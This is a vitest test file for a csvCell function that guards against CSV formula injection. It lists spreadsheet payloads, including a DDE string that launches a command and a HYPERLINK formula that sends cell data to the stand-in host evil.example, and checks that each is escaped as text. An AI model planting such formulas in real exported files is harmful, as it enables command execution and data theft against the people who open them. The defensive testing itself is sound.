import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { csvCell } from '#domain/csv-cell.ts'

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+cmd',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"点这里")',
  '="a";"b"',
  '-',
  '-5.00-cmd',
  '--5',
  '-1,2,3',
]

test.each(PAYLOADS)('%j is a text, also when another program reads the file', (payload) => {
  const read = Papa.parse<string[]>(`${csvCell(payload)},next`).data[0]
  expect(read).toEqual([`'${payload}`, 'next'])
})

test.each(['-5.00', '5.00', '-1,234,567.89', '0', '-12.5%', '1e3'])('%s stays a number', (text) => {
  expect(Papa.parse<string[]>(csvCell(text)).data[0]).toEqual([text])
})

test('other texts stay as they are, with quotes where needed', () => {
  expect(['首发', 'a"b', 'a,b', 'a;b', 'x=1', '第 1 行\n第 2 行'].map(csvCell)).toEqual([
    '首发',
    '"a""b"',
    '"a,b"',
    '"a;b"',
    'x=1',
    '"第 1 行\n第 2 行"',
  ])
})
